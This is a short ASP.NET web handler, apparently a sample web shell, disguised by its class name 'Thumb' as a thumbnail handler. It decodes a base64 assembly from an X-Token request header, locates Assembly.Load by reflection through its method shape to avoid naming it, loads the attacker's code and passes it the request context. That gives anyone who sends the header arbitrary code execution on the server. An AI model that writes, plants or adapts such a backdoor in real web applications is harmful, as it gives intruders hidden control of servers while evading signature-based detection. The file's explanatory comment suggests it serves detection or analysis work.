<%@ WebHandler Language="C#" Class="Thumb" %>
using System;
using System.Web;

// Sample: Assembly.Load picked from typeof(Assembly).GetMethods() by shape (a four-letter name,
// one byte[] parameter) and invoked on a header's bytes; the loaded class receives the context.
public class Thumb : IHttpHandler
{
    public void ProcessRequest(HttpContext ctx)
    {
        var raw = Convert.FromBase64String(ctx.Request.Headers["X-Token"]);
        var t = typeof(System.Reflection.Assembly);
        var m = Array.Find(t.GetMethods(), x => x.Name.Length == 4 && x.GetParameters().Length == 1
            && x.GetParameters()[0].ParameterType == typeof(byte[]));
        object a = m.Invoke(null, new object[] { raw });
        ((System.Reflection.Assembly)a).CreateInstance("T").Equals(ctx);
    }

    public bool IsReusable { get { return false; } }
}
